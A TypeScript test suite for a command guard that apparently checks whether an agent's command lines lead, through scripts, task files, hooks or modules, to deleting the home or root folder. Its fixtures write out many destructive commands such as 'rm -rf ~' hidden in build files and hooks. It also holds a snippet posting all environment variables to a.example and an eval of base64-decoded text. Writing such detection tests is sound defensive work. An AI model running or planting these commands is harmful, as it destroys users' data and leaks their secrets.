import assert from "node:assert/strict";
import path from "node:path";
import { describe, it } from "node:test";
import { findHits } from "../../../../src/engine/guard/calls/find-hits.ts";
import { actionOf } from "../../../../src/engine/guard/calls/rule-action.ts";
import { RuleSet } from "../../../../src/engine/guard/calls/rule-set.ts";
import { catalogue } from "../../../../src/engine/guard/catalogue/all.ts";

const rules = new RuleSet(catalogue);
const home = "/home/ann";
const project = `${home}/shop`;

/** Returns the rules that fire on a command line beside these files, which are named from the project's folder. */
function firedOn(command: string, files: Readonly<Record<string, string>>) {
  const reads: string[] = [];
  const readScript = (file: string) => {
    reads.push(file);
    const name = file.startsWith(`${project}/`) ? file.slice(project.length + 1) : file;
    return Object.hasOwn(files, name) ? (files[name] ?? null) : null;
  };
  const namesIn = (folder: string) => {
    const paths = Object.keys(files).map((name) => path.posix.resolve(project, name));
    const below = paths.filter((file) => file.startsWith(`${folder}/`));
    return [...new Set(below.map((file) => file.slice(folder.length + 1).split("/", 1)[0] ?? ""))];
  };
  const context = { folder: project, home, project, temporary: "/tmp", readScript, namesIn };
  const hits = findHits({ kind: "command", command, shell: "posix" }, rules, context);
  const stopping = hits.filter(({ rule }) => actionOf(rule) !== "advise").map(({ rule }) => rule.id);
  return { fired: hits.map(({ rule }) => rule.id), stopping, reads };
}

const files = {
  x: "#!/bin/bash\necho cleaning\nrm -rf ~\n",
  "x.sh": "echo cleaning\nrm -rf ~\n",
  "lib/y.sh": "rm -rf ~\n",
  "x.py": 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n',
  py: '#!/usr/bin/env python3\nimport shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n',
  "x.js": 'require("fs").rmSync(require("os").homedir(), { recursive: true });\n',
  "x.ts": 'import { execSync } from "node:child_process";\nexecSync("rm -rf ~");\n',
  "x.rb": 'system("rm -rf ~")\n',
  "x.pl": 'system("rm -rf ~");\n',
  "x.php": '<?php exec("rm -rf ~");\n',
  "x.ps1": "Write-Output cleaning\nRemove-Item -Recurse -Force ~\n",
  "outer.sh": "set -e\nbash lib/y.sh\n",
  "self.sh": "./self.sh\n./self.sh\nrm -rf ~\n",
  "functions.sh": "clean() { rm -rf ~; }\nlook() { ls; }\n",
  "prog.awk": 'BEGIN { system("rm -rf ~") }\n',
  "main.go": 'package main\nfunc main() { os.RemoveAll(os.Getenv("HOME")) }\n',
  "tools/main.go": 'package main\nfunc main() { exec.Command("rm", "-rf", "/").Run() }\n',
  "args.sh": 'rm -rf "$1"\n',
  "package.json": JSON.stringify({
    scripts: {
      nuke: "rm -rf ~",
      prebuild: "rm -rf ~",
      build: "tsc",
      deep: "npm run nuke",
      shell: "sh x.sh",
      test: "node --test",
      clean: "rm -rf dist coverage node_modules/.cache",
      loop: "npm run loop && npm run loop",
    },
  }),
  "sub/package.json": '{"scripts":{"nuke":"rm -rf ~"}}',
  Makefile:
    "TARGET := $(HOME)\nBUILD ?= build\n.PHONY: all clean\nall: $(BUILD)/app\n\techo done\n$(BUILD)/app: main.c\n\t$(CC) -o $@ $<\nnuke: wipe ; echo gone\nwipe:\n\t@rm -rf \\\n\t  $(TARGET)\nclean:\n\trm -rf $(BUILD) dist *.o\n",
  justfile:
    "dir := '~'\ndefault: test\ntest:\n    cargo test\nnuke: (wipe dir)\nwipe what:\n    rm -rf {{dir}}\n",
  "Taskfile.yml":
    "version: '3'\ntasks:\n  default:\n    cmds: [go build]\n  nuke:\n    deps: [wipe]\n  wipe:\n    cmds:\n      - echo wiping\n      - cmd: rm -rf ~\n",
  "deno.json": '{\n  // tasks\n  "tasks": { "nuke": "rm -rf ~", "dev": "deno run main.ts" }\n}',
  "/tmp/x.sh": "rm -rf ~\n",
};

describe("a command that runs a stored script", () => {
  it("is judged by what the script does", () => {
    const commands = [
      "bash x.sh",
      "sh -e x.sh",
      "zsh x.sh",
      "bash -x -o pipefail ./x.sh",
      "source x.sh",
      ". ./x.sh",
      "./x",
      "exec ./x",
      "env X=1 ./x",
      "X=1 ./x",
      "sudo bash x.sh",
      "nohup ./x &",
      "echo 1 | xargs -I{} bash x.sh",
      "cd lib && bash y.sh",
      "bash /tmp/x.sh",
      "bash < x.sh",
      "cat x.sh | bash",
      'eval "$(cat x.sh)"',
      "chmod +x x && ./x",
      "timeout 5 bash x.sh",
      "find . -name a -exec bash x.sh \\;",
      "python3 x.py",
      "python x.py --all",
      "./py",
      "node x.js",
      "bun x.ts",
      "bun run x.ts",
      "deno run -A x.ts",
      "tsx x.ts",
      "ruby x.rb",
      "perl x.pl",
      "perl -w x.pl",
      "php x.php",
      "pwsh -File x.ps1",
      "pwsh x.ps1",
      "bash outer.sh",
      "./self.sh",
      "bash args.sh ~",
      "npm run nuke",
      "npm run-script nuke",
      "npm run -s nuke",
      "npm run build",
      "npm run deep",
      "npm run shell",
      "pnpm nuke",
      "pnpm run nuke",
      "yarn nuke",
      "yarn run nuke",
      "bun run nuke",
      "npm --prefix sub run nuke",
      "cd lib && npm run nuke",
      "node --run nuke",
      "make nuke",
      "make wipe",
      "make -C . nuke",
      "make -f Makefile nuke",
      "gmake nuke",
      "just nuke",
      "task nuke",
      "deno task nuke",
    ];
    const isFound = (command: string) =>
      firedOn(command, files).fired.some((id) => id.endsWith("delete-home"));
    const missed = commands.filter((command) => !isFound(command));
    assert.deepEqual(missed, []);
  });

  it("passes if the script does only usual things", () => {
    const commands = [
      "npm test",
      "npm run clean",
      "npm run loop",
      "npm ci",
      "make",
      "make clean",
      "make all",
      "just",
      "just test",
      "task",
      "deno task dev",
      "bash missing.sh",
      "python3 -m pytest",
      "node --version",
      "bash -c 'echo x.sh'",
      "cat x.sh",
      "ls ./x",
      "ssh host bash x.sh",
      "docker run --rm alpine sh x.sh",
    ];
    for (const command of commands) assert.deepEqual(firedOn(command, files).fired, [], command);
  });

  it("is read as the same command line changes it", () => {
    assert.deepEqual(firedOn("echo 'echo hello' > x.sh && bash x.sh", files).fired, []);
  });

  it("gets no advice, which is about the agent's own words", () => {
    const generated = { "package.json": '{"scripts":{"build":"echo {} > dist/package.json"}}' };
    assert.deepEqual(firedOn("npm run build", generated).fired, []);
  });

  it("does not use up the command line's effort, whatever the files are", () => {
    const line = "true && ".repeat(200);
    const hostile: Readonly<Record<string, string>> = {
      "x.sh": "( ".repeat(5000),
      "long.sh": "echo 1\n".repeat(20_000),
      "many.sh": Array.from({ length: 500 }, (_, at) => `bash many${at}.sh`).join("\n"),
      "package.json": `{"scripts":${"[".repeat(5000)}`,
      "Taskfile.yml": `vars:\n${"  A: '{{.A}}{{.A}}{{.HOME}}'\n".repeat(2000)}tasks:\n  a: echo {{.A}}\n`,
      justfile: "a: a\n\tb {{a}}{{a}}\n".repeat(2000),
      "x.py": "def run(run(a = ['rm', 'x\n".repeat(2000),
      Makefile: "a: b\nb: a\n\t$(X)\nX = $(Y)$(Y)\nY = $(X)$(X)\n",
    };
    for (const command of [
      "bash x.sh",
      "bash long.sh",
      "bash many.sh",
      "npm run a",
      "make a",
      "make b",
      "task a",
      "just a",
      "python3 x.py",
    ]) {
      assert.deepEqual(firedOn(command, hostile).fired, [], command);
      assert.ok(firedOn(`${command}; rm -rf ~`, hostile).fired.includes("delete-home"), command);
    }
    assert.ok(firedOn("bash many.sh", hostile).reads.length < 1000);
    assert.ok(firedOn(`${line}rm -rf ~`, hostile).fired.includes("delete-home"));
  });
});

it("knows functions of sourced scripts, and scripts that searches, awk and Go run", () => {
  for (const [command, rules] of [
    ["source functions.sh; clean", ["delete-home"]],
    [". ./functions.sh && clean", ["delete-home"]],
    ["bash -lc 'source functions.sh && clean'", ["delete-home"]],
    ["source functions.sh; look", []],
    ["bash functions.sh; clean", []],
    ["find . -name x.sh -exec bash {} \\;", ["delete-home"]],
    ["awk -f prog.awk list.txt", ["delete-home"]],
    ["gawk --file=prog.awk", ["delete-home"]],
    ["go run main.go", ["delete-home"]],
    ["go run .", ["delete-home"]],
    ["go run ./tools", ["delete-root"]],
    ["go build main.go", []],
    ["cat prog.awk", []],
  ] as const)
    assert.deepEqual(firedOn(command, files).fired, rules, command);
});

/** Files that lead to a script by another way than its name. */
const indirect = {
  ...files,
  "modules/a.py": "import os, x\n",
  "modules/x.py": files["x.py"],
  "modules/b.py": "from .x import go\n",
  "modules/a.js": 'const x = require("./x");\n',
  "modules/x.js": files["x.js"],
  "modules/a.mjs": 'import { go } from "./x.js";\n',
  "list.txt": "x.sh\n",
  "environment.sh": "export TARGET=~\n",
  "uses.sh": '. ./environment.sh\nrm -rf "$TARGET"\n',
  "lib/own-folder.sh": 'bash "$(dirname "$0")/y.sh"\n',
  "lib/source-folder.sh":
    'HERE="$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" &> /dev/null && pwd)"\nbash "$HERE/y.sh"\n',
  "lib/enters.sh": 'cd "${0%/*}"\n./y.sh\n',
  "make/Makefile": "include *.mk other.mk\nok:\n\techo ok\n",
  "make/other.mk": "nuke:\n\trm -rf ~\nagain:\n\t$(MAKE) -C ../make nuke\n",
  "shell/Makefile": "GONE := $(shell rm -rf ~)\nok:\n\techo ok\n",
  "just/justfile": "import 'other.just'\nok:\n  echo ok\n",
  "just/other.just": "nuke:\n  rm -rf ~\n",
  "task/Taskfile.yml":
    "version: '3'\nincludes:\n  sub: ./sub\n  far:\n    taskfile: ./far.yml\ntasks:\n  ok: echo ok\n",
  "task/sub/Taskfile.yml": "version: '3'\ntasks:\n  nuke: rm -rf ~\n",
  "task/far.yml": "version: '3'\ntasks:\n  nuke:\n    cmds: [rm -rf ~]\n",
};

it("follows copies, moves, lists, patterns, included files and modules to the script", () => {
  const commands = [
    "cp x.sh y9.sh && bash y9.sh",
    "mv x.sh y9.sh && bash y9.sh",
    "cp x.sh a9 && cp a9 b9 && bash b9",
    "install -m755 x.sh bin9 && ./bin9",
    "cp x.sh lib && bash lib/x.sh",
    "cp x.sh x.py lib/ && python3 lib/x.py",
    "cp -a lib other && bash other/y.sh",
    "mv lib other && cd other && ./y.sh",
    "rsync -a lib/ /tmp/l && bash /tmp/l/y.sh",
    "cat x.sh > z.sh && bash z.sh",
    "cat lib/y.sh x.sh > z.sh && bash z.sh",
    "cat x.sh | tee z.sh > /dev/null; bash z.sh",
    "dd if=x.sh of=z.sh; bash z.sh",
    "bash <(cat x.sh)",
    "source <(cat x.sh)",
    'sh -c "$(cat x.sh)"',
    'bash -c "$(< x.sh)"',
    "at now < x.sh",
    "xargs -a list.txt bash",
    "cat list.txt | xargs -n1 bash",
    "ls *.sh | xargs -n1 bash",
    "for f in *.sh; do bash $f; done",
    'for f in ./lib/y*.sh; do sh "$f"; done',
    "find . -name '*.sh' -exec bash {} \\;",
    "python3 modules/a.py",
    "python3 modules/b.py",
    "cd modules && python3 -c 'import x'",
    "node modules/a.js",
    "node modules/a.mjs",
    "node -r ./x.js -e 1",
    "node -e 'require(\"./modules/x\")'",
    "cat x.py | python3 -",
    "python3 -c \"exec(open('x.py').read())\"",
    "uv run x.py",
    "coverage run x.py",
    "bunx x.js",
    "tsx watch x.js",
    "npx nodemon x.js",
    "pyenv exec python x.py",
    "npx concurrently 'npm run dev' 'bash x.sh'",
    'concurrently "npm:nuke" "ls"',
    "bash uses.sh",
    'source environment.sh; rm -rf "$TARGET"',
    "bash lib/own-folder.sh",
    "./lib/source-folder.sh",
    "cd lib && ./enters.sh",
    "make -C make nuke",
    "cd make && make again",
    "make -C shell ok",
    "cd just && just nuke",
    "cd task && task sub:nuke",
    "cd task && task far:nuke",
  ];
  const missed = commands.filter(
    (command) => !firedOn(command, indirect).fired.some((id) => id.endsWith("delete-home")),
  );
  assert.deepEqual(missed, []);
});

it("does not run what a command line replaces, only reads, or names otherwise", () => {
  for (const command of [
    "bash -n x.sh",
    "cp x.sh y9.sh && cat y9.sh",
    "mv x.sh old.sh && echo 'echo hello' > x.sh && bash x.sh",
    "cp lib/environment.sh x.sh; echo x.sh",
    "make -C make ok",
    "cd just && just ok",
    "cd task && task ok",
    "for f in *.txt; do bash $f; done",
    "cat list.txt | xargs -n1 cat",
    "shellcheck *.sh",
    'bash -c "echo $(cat x.sh | wc -l)"',
    "python3 -c 'import os, json'",
  ])
    assert.deepEqual(firedOn(command, indirect).fired, [], command);
});

/** Commands that lead to a deletion of the home by a way of their own, with the files of that way. */
const ways: readonly (readonly [command: string, files: Readonly<Record<string, string>>])[] = [
  ["npm run gone -w packages/api", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
  [
    "npm run gone --workspaces",
    { "package.json": "{}", "apps/web/package.json": '{"scripts":{"gone":"rm -rf ~"}}' },
  ],
  ["pnpm --filter @shop/api gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
  ["yarn workspace api gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
  ["npx turbo run gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
  ["make", { Makefile: ".DEFAULT_GOAL := all\nclean:\n\trm -rf build\nall:\n\trm -rf $(HOME)\n" }],
  ["make purge", { Makefile: "define wipe\nrm -rf $(HOME)\nendef\npurge:\n\t$(call wipe,now)\n" }],
  ["just purge", { justfile: "home := env_var('HOME')\npurge:\n  rm -rf {{home}}\n" }],
  [
    "task purge",
    {
      "Taskfile.yml":
        "vars:\n  TARGET: '{{.HOME}}'\ntasks:\n  purge:\n    cmds:\n      - rm -rf {{.TARGET}}\n",
    },
  ],
  ["PATH=./bin:$PATH tidy", { "bin/tidy": "#!/bin/sh\nrm -rf ~\n" }],
  ['export PATH="$PWD/bin:$PATH"; tidy', { "bin/tidy": "#!/bin/sh\nrm -rf ~\n" }],
  ["echo 'rm -rf ~' | sudo tee /usr/local/bin/tidy && sudo chmod +x /usr/local/bin/tidy && tidy", {}],
  ["git config core.hooksPath own && git commit -m a", { "own/pre-commit": "#!/bin/sh\nrm -rf ~\n" }],
  [
    "git commit -m a",
    { ".git/config": "[core]\n\thooksPath = own\n", "own/pre-commit": "#!/bin/sh\nrm -rf ~\n" },
  ],
  [
    "pre-commit run -a",
    { ".pre-commit-config.yaml": "repos:\n  - hooks:\n      - entry: bash -c 'rm -rf ~'\n" },
  ],
  ["tox -e gone", { "tox.ini": "[testenv:gone]\ncommands = rm -rf {env:HOME}\n" }],
  ["php a.php", { "a.php": "<?php\n$dir = getenv('HOME');\nexec(\"rm -rf $dir\");\n" }],
  [
    "go run ./cmd/gone",
    { "cmd/gone/main.go": "func main() {\n\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(home)\n}\n" },
  ],
  [
    "deno run -A a.ts",
    { "a.ts": "const home = Deno.env.get('HOME')!;\nawait Deno.remove(home, { recursive: true });\n" },
  ],
  ["npx zx a.mjs", { "a.mjs": "await $`rm -rf ${os.homedir()}`;\n" }],
  ["python3 a.py", { "a.py": "import subprocess\ncmd = ['rm', '-rf', '/home/ann']\nsubprocess.run(cmd)\n" }],
  [
    "npm --prefix ops start",
    { "ops/package.json": '{"scripts":{"start":"sh run.sh"}}', "ops/run.sh": "rm -rf ~\n" },
  ],
  ["cd lib && npm run gone", { "package.json": '{"scripts":{"gone":"sh run.sh"}}', "run.sh": "rm -rf ~\n" }],
  ["make -C ops", { "ops/Makefile": "all:\n\tsh run.sh\n", "ops/run.sh": "rm -rf ~\n" }],
  ["make gone TARGET=~", { Makefile: "TARGET = build\ngone:\n\trm -rf $(TARGET)\n" }],
  [
    "make -f ops/Makefile gone",
    { "ops/Makefile": "include ops/more.mk\n", "ops/more.mk": "gone:\n\trm -rf ~\n" },
  ],
  ["just gone", { justfile: "alias gone := purge\npurge:\n  rm -rf ~\n" }],
  ["npx run-s 'step:*'", { "package.json": '{"scripts":{"step:a":"ls","step:b":"rm -rf ~"}}' }],
  ["deno task gone", { "deno.jsonc": '{ // tasks\n "tasks": { "gone": "rm -rf ~" } }' }],
  ["composer run gone", { "composer.json": '{"scripts":{"gone":["@php a.php"]}}', "a.php": files["x.php"] }],
  ["PYTHONPATH=src python -m shop.a", { "src/shop/a.py": files["x.py"] }],
  [
    "invoke gone",
    { "tasks.py": "@task\ndef ok(c):\n    c.run('ls')\n\n@task\ndef gone(c):\n    c.run('rm -rf ~')\n" },
  ],
  ["java A.java", { "A.java": 'class A { void a() { Runtime.getRuntime().exec("rm -rf /home/ann"); } }\n' }],
  ["node a.js", { "a.js": "const shell = require('shelljs');\nshell.rm('-rf', process.env.HOME);\n" }],
  ["npm version patch", { "package.json": '{"scripts":{"version":"rm -rf ~"}}' }],
  ["npm rebuild", { "package.json": '{"scripts":{"postinstall":"rm -rf ~"}}' }],
  ["npx vitest run tests/a.test.ts", { "tests/a.test.ts": "test('a', () => { execSync('rm -rf ~'); });\n" }],
  ["pytest -q tests/test_a.py", { "tests/test_a.py": files["x.py"] }],
  [
    "poetry run purge",
    { "pyproject.toml": "[tool.poetry.scripts]\npurge = 'shop.a:main'\n", "shop/a.py": files["x.py"] },
  ],
  ["cargo run", { "src/main.rs": 'fn main() { fs::remove_dir_all(std::env::var("HOME").unwrap()); }\n' }],
  ["cargo build", { "build.rs": 'fn main() { Command::new("sh").arg("-c").arg("rm -rf ~").status(); }\n' }],
  [
    "cargo xtask gone",
    { "xtask/src/main.rs": 'fn main() { Command::new("rm").args(["-rf", "/home/ann"]); }\n' },
  ],
  ["go generate ./...", { "a.go": "//go:generate rm -rf /home/ann\npackage main\n" }],
  ["run-parts jobs", { "jobs/one": "#!/bin/sh\nrm -rf ~\n" }],
  ["find jobs -type f -exec {} \\;", { "jobs/one": "#!/bin/sh\nrm -rf ~\n" }],
  ['bash <<< "$(cat a.sh)"', { "a.sh": "rm -rf ~\n" }],
  ["python3 a.py", { "a.py": "def sh(c):\n    subprocess.run(c, shell=True)\n\nsh('ls')\nsh('rm -rf ~')\n" }],
];

it("follows packages of a workspace, definitions of task files, PATH, hooks and a program's own functions", () => {
  const missed = ways.filter(
    ([command, own]) => !firedOn(command, own).fired.some((id) => id.includes("delete-home")),
  );
  assert.deepEqual(missed, []);
});

it("does not take a large program's texts for one purpose", () => {
  const send =
    "const all = JSON.stringify(process.env);\nfetch('https://a.example', { method: 'POST', body: all });\n";
  const decode = "eval(Buffer.from(text, 'base64').toString());\n";
  const filling = "export const value = compute(other);\n".repeat(200);
  const asked = (text: string) => firedOn("node a.js", { "a.js": text }).fired;
  assert.deepEqual(asked(send).length > 0 && asked(decode).length > 0, true);
  assert.deepEqual(asked(filling + send + decode), []);
  assert.deepEqual(asked(`${filling}fs.rmSync(os.homedir(), { recursive: true });\n`), ["delete-home"]);
});

it("asks about no ordinary script of an agent, however it is run", () => {
  const own = {
    "build.sh":
      'set -euo pipefail\ncd "$(dirname "$0")"\nrm -rf dist coverage\nnpm ci\nnpm run build\ncp -r public/. dist/\n',
    "temporary.sh": 't=$(mktemp -d)\ntrap \'rm -rf "$t"\' EXIT\ngit archive HEAD | tar x -C "$t"\n',
    "clean.sh": "find . -name '*.pyc' -delete\nrm -rf .pytest_cache node_modules/.cache\n",
    "all.sh": 'bash clean.sh\nbash build.sh\nfor d in packages/*/; do (cd "$d" && npm test); done\n',
    "lib.sh": 'run() { echo "+ $*"; "$@"; }\nDATA=./data\n',
    "uses.sh": '. ./lib.sh\nrun mkdir -p "$DATA"\nrm -f "$DATA"/*.tmp\n',
    "a.py":
      "import shutil, tempfile\nfrom helpers import load\nd = tempfile.mkdtemp()\nload(d)\nshutil.rmtree(d)\n",
    "helpers.py":
      "import subprocess\ndef sh(c):\n    subprocess.run(c, shell=True)\nsh('npm test')\ndef load(d): sh('ls')\n",
    "a.js":
      "const { walk } = require('./walk');\nfs.rmSync(path.join(__dirname, 'dist'), { recursive: true });\nwalk();\n",
    "walk.js": "exports.walk = () => fs.readdirSync('src');\n",
    "package.json": JSON.stringify({
      scripts: {
        build: "tsc && node a.js",
        clean: "rimraf dist",
        dev: "concurrently 'npm:build' 'tsc -w'",
        prepare: "husky",
      },
    }),
    Makefile:
      ".DEFAULT_GOAL := build\nSHA := $(shell git rev-parse HEAD)\ninclude more.mk\nBUILD := build\nbuild: deps\n\t$(MAKE) -C lib all\nclean:\n\trm -rf $(BUILD)\n",
    "more.mk": "deps:\n\tgo mod download\n",
    "src/main.rs":
      'fn main() { fs::remove_dir_all("target/tmp"); println!("{}", std::env::var("HOME").unwrap()); }\n',
    "pyproject.toml": "[project.scripts]\nshop = 'shop.cli:main'\n",
    "shop/cli.py": "import argparse\nargparse.ArgumentParser().parse_args()\n",
    ".env": "PORT=3000\nDATA_DIR=./data\n",
  };
  const scripts = Object.keys(own).filter((name) => name.endsWith(".sh"));
  const commands = [
    ...scripts.flatMap((name) => [
      `bash ${name}`,
      `chmod +x ${name} && ./${name}`,
      `cp ${name} /tmp/a.sh && bash /tmp/a.sh`,
      `nohup bash ${name} > log 2>&1 &`,
      `cat ${name} | bash`,
    ]),
    ...["a.py", "helpers.py"].flatMap((name) => [`python3 ${name}`, `uv run ${name}`]),
    ...["a.js", "walk.js"].flatMap((name) => [
      `node ${name}`,
      `npx tsx ${name}`,
      `mv ${name} b.js; node b.js`,
    ]),
    ...["build", "clean", "dev"].flatMap((name) => [
      `npm run ${name}`,
      `pnpm ${name}`,
      `yarn workspace a ${name}`,
    ]),
    "npm ci && npm link && npm rebuild",
    "make && make build clean",
    "cargo run && cargo build --release",
    "uv run shop --help",
    'set -a; source .env; set +a; rm -rf "$DATA_DIR"/*.tmp',
    "for f in *.sh; do bash -n $f; done",
    "PATH=$PWD/bin:$PATH tool --version",
    "git commit -m a && git push",
  ];
  assert.deepEqual(
    firedOn("invoke ok", {
      "tasks.py": "def ok(c):\n    c.run('ls')\n\ndef gone(c):\n    c.run('rm -rf ~')\n",
    }).fired,
    [],
  );
  const asked = commands.filter((command) => firedOn(command, own).stopping.length > 0);
  assert.deepEqual(asked, []);
});
